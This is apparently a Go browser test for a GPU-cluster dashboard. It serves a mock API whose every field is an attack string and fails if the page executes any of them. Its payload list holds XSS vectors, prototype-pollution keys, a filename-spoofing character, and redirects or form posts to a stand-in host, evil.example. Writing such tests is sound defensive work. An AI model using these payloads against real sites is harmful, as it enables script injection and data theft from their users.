package e2e

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
)

// payloads are texts that do something where they are taken for markup, for a program, for an address or for the name of a member. Each sets
// window.hacked where it is one.
var payloads = []string{
	`<img src=x onerror=hacked=1>`, `<script>hacked=1</script>`, `"><svg onload=hacked=1>`, `'><details open ontoggle=hacked=1>x</details>`, `</td></table><img src=x onerror=hacked=1>`, `</textarea><script>hacked=1</script>`,
	`<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hacked=1&gt;">`, `<a href="javascript:hacked=1">x</a>`, `javascript:hacked=1`, `data:text/html,<script>hacked=1</script>`,
	`" onmouseover="hacked=1" x="`, "${hacked=1}", `{{constructor.constructor('hacked=1')()}}`, `&lt;img src=x onerror=hacked=1&gt;`, "\u003cscript\u003ehacked=1\u003c/script\u003e\u2028hacked=1", `<style>@import 'https://evil.example/';*{display:none}</style>`,
	`<base href="https://evil.example/">`, `<form action="https://evil.example/"><input name=secret>`, `__proto__`, `constructor`, `../../#/tasks`, "\u202egnp.exe", `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
}

// hostilePool answers as a pool whose every name, tag, address, image, reason, event and line of a log is a payload.
type hostilePool struct {
	http.ServeMux
	next int
}

// text is the next payload.
func (p *hostilePool) text() string {
	p.next++
	return payloads[p.next%len(payloads)]
}

// polluted is a document with a member that would change all objects where members are copied by their names.
func polluted(document any) []byte {
	text, err := json.Marshal(document)
	if err != nil {
		panic(err)
	}
	return []byte(strings.ReplaceAll(string(text), `{"`, `{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"`))
}

const (
	hostileHost = "00000000000000000000000000000001"
	hostileARN  = "arn:aws:ecs:us-east-1:123456789012:"
)

func (p *hostilePool) task(i int, status string) object {
	return object{
		"taskArn": fmt.Sprintf("%stask/default/%032d", hostileARN, i), "taskDefinitionArn": hostileARN + "task-definition/" + p.text(), "containerInstanceArn": hostileARN + "container-instance/default/" + hostileHost, "enableExecuteCommand": true,
		"group": p.text(), "lastStatus": status, "version": 1, "createdAt": 1_700_000_000, "stoppedAt": 1_900_000_000, "stoppedReason": p.text(), "stopCode": p.text(), "startedBy": p.text(), "attributes": []object{{"name": "pinion.key", "value": p.text()}, {"name": "__proto__", "value": p.text()}},
		"tags":       []object{{"key": "pinion.team", "value": p.text()}, {"key": p.text(), "value": p.text()}},
		"containers": []object{{"name": p.text(), "image": p.text(), "lastStatus": status, "reason": p.text(), "exitCode": 1, "gpuIds": []string{"GPU-" + p.text()}, "networkBindings": []object{{"hostPort": 1, "containerPort": 2, "protocol": p.text()}}}},
	}
}

func newHostilePool() *hostilePool {
	p := &hostilePool{}
	answer := func(pattern string, document func() any) {
		p.HandleFunc(pattern, func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "application/json")
			_, _ = w.Write(polluted(document()))
		})
	}
	host := func() object {
		return object{"id": hostileHost, "name": p.text(), "cluster": p.text(), "status": "ACTIVE", "connected": true, "address": p.text(), "role": p.text(), "version": p.text(), "attributes": object{"rack": p.text(), p.text(): p.text()}, "custom": object{p.text(): p.text()}}
	}
	answer("GET /v1/hosts", func() any { return []object{host()} })
	answer("GET /v1/gpus", func() any {
		return []object{{"uuid": "GPU-0", "index": 0, "host": p.text(), "hostId": hostileHost, "model": p.text(), "health": p.text(), "problem": p.text(), "task": strings.Repeat("0", 32), "team": p.text(), "definition": p.text(), "migDevice": object{"profile": p.text()}}}
	})
	answer("GET /v1/gpus/usage", func() any { return object{"gpus": []object{{"uuid": "GPU-0", "utilization": 1}}} })
	answer("GET /v1/queue", func() any {
		return []object{{"taskId": fmt.Sprintf("%032d", 1), "definition": p.text(), "team": p.text(), "group": p.text(), "cluster": p.text(), "waitsFor": p.text(), "since": p.text()}}
	})
	answer("GET /v1/images", func() any {
		return []object{{"name": p.text(), "digest": p.text(), "size": 1, "hosts": []string{hostileHost, p.text()}, "kept": object{"on": p.text(), "by": p.text(), "at": "2026-01-01T00:00:00Z"}}}
	})
	answer("GET /v1/usage", func() any {
		return object{"rows": []object{{"team": p.text(), "day": p.text(), "gpuSeconds": 3600, "tasks": 1}}}
	})
	answer("GET /v1/whoami", func() any { return object{"arn": p.text(), "name": p.text(), "role": "admin"} })
	answer("GET /healthz", func() any { return object{"status": p.text()} })
	answer("GET /v1/tasks", func() any {
		return object{"tasks": []object{p.task(0, "RUNNING"), p.task(1, "PROVISIONING"), p.task(2, "STOPPED")}}
	})
	answer("GET /v1/tasks/{id}/explain", func() any {
		return object{"summary": p.text(), "estimate": p.text(), "holders": []object{{"taskId": p.text()}}, "hosts": []object{{"hostId": p.text(), "reason": p.text(), "detail": p.text()}}}
	})
	answer("GET /v1/admin/hosts/{id}/doctor", func() any {
		return object{"findings": []object{{"check": p.text(), "level": p.text(), "found": p.text(), "do": p.text()}}}
	})
	answer("GET /v1/tasks/{id}/logs", func() any {
		return object{"time": "2026-01-01T00:00:00Z", "stream": "stderr", "container": p.text(), "text": p.text()}
	})
	answer("POST /v1/ListClusters", func() any { return object{"clusterArns": []string{hostileARN + "cluster/default"}} })
	answer("POST /v1/ListServices", func() any { return object{"serviceArns": []string{"s"}} })
	answer("POST /v1/DescribeServices", func() any {
		return object{"services": []object{{"serviceArn": "s", "serviceName": p.text(), "clusterArn": p.text(), "status": p.text(), "taskDefinition": p.text(), "events": []object{{"createdAt": 1, "message": p.text()}},
			"deployments": []object{{"id": p.text(), "taskDefinition": p.text(), "rolloutState": p.text(), "rolloutStateReason": p.text()}}}}}
	})
	p.HandleFunc("POST /v1/DescribeTasks", p.describe)
	p.HandleFunc("POST /v1/tasks/{id}/exec", p.refuse)
	p.HandleFunc("GET /v1/events", p.events)
	p.HandleFunc("GET /ui/", (&largePool{}).page)
	return p
}

func (p *hostilePool) describe(w http.ResponseWriter, r *http.Request) {
	var in struct{ Tasks []string }
	if err := json.NewDecoder(r.Body).Decode(&in); err != nil || len(in.Tasks) != 1 || len(in.Tasks[0]) != 32 {
		_, _ = w.Write([]byte(`{"tasks":[]}`))
		return
	}
	status := map[byte]string{'0': "RUNNING", '1': "PROVISIONING", '2': "STOPPED"}[in.Tasks[0][31]]
	_, _ = w.Write(polluted(object{"tasks": []object{p.task(int(in.Tasks[0][31]-'0'), status)}}))
}

func (p *hostilePool) refuse(w http.ResponseWriter, _ *http.Request) {
	w.WriteHeader(http.StatusForbidden)
	_, _ = w.Write(polluted(object{"__type": "AccessDeniedException", "message": p.text()}))
}

// events sends a change of each kind, and then nothing.
func (p *hostilePool) events(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "text/event-stream")
	for i, kind := range []string{"task", "host", "gpu", "leader", "service", "__proto__", p.text()} {
		detail := object{"taskArn": p.task(0, "RUNNING")["taskArn"], "version": 0, "ec2InstanceId": p.text(), "change": p.text(), "host": p.text(), "term": p.text(), "serviceName": p.text(), "reason": p.text(), "message": p.text(), "problem": p.text()}
		fmt.Fprintf(w, "id: %d-0\nevent: %s\ndata: %s\n\n", i+1, strings.ReplaceAll(kind, "\n", ""), polluted(object{"time": p.text(), "detail": detail, "resources": []string{p.text()}}))
	}
	_ = http.NewResponseController(w).Flush()
	<-r.Context().Done()
}

// wrong is what a payload that is taken for more than a text leaves in the page.
const wrong = `(window.hacked || ({}).polluted || [].polluted || document.querySelector('#page img, #page iframe, #page script, #page style, #page base, #page svg, #page math, #page meta, #page object') || document.querySelectorAll('script').length !== 1
	|| [...document.querySelectorAll('a')].some(a => !/^(#|\/ui\/licences\.txt)/.test(a.getAttribute('href'))) || document.querySelector('#page form') || location.origin !== origin || [...document.querySelectorAll('#page *')].some(e => [...e.attributes].some(a => a.name.startsWith('on'))))`

// Whatever a pool says of itself, the page shows it as text. The pages here have no content security policy, so nothing else holds the payloads back.
func TestStoredTextsDoNothingOnTheWebPage(t *testing.T) {
	pool := newHostilePool()
	server := httptest.NewTLSServer(pool)
	t.Cleanup(server.Close)
	p := openAt(t, strings.TrimPrefix(server.URL, "https://"))
	p.signIn("AKIAIOSFODNN7EXAMPLE", "secret")
	p.waits("document.querySelector('.cells')")
	fragments := []string{"#/pool", "#/tasks", fmt.Sprintf("#/tasks/%032d", 0), fmt.Sprintf("#/tasks/%032d", 1), fmt.Sprintf("#/tasks/%032d", 2), "#/queue", "#/services", "#/services/s", "#/hosts", "#/hosts/" + hostileHost, "#/images", "#/events", "#/usage", "#/search/gpu", "#/__proto__/constructor"}
	for _, text := range payloads {
		fragments = append(fragments, "#/search/"+url.PathEscape(text), "#/tasks/"+url.PathEscape(text), "#/images/"+url.PathEscape(text), "#/"+url.PathEscape(text))
	}
	for _, fragment := range fragments {
		p.visit(fragment)
		p.do(chromedp.Sleep(100 * time.Millisecond))
		if p.holds(wrong) {
			var found string
			p.do(chromedp.Evaluate("document.getElementById('page').outerHTML.slice(0, 4000)", &found))
			t.Errorf("at %s a text is more than a text:\n%s", fragment, found)
		}
	}
	p.visit(fmt.Sprintf("#/tasks/%032d", 0))
	p.do(chromedp.WaitVisible(".choices button:nth-child(2)"), chromedp.Click(".choices button:nth-child(2)"))
	p.waits("document.querySelector('.terminal [role=alert]')")
	if p.holds(wrong) {
		t.Error("a refusal is more than a text")
	}
	p.checkBut("status of 403", "status of 404")
}
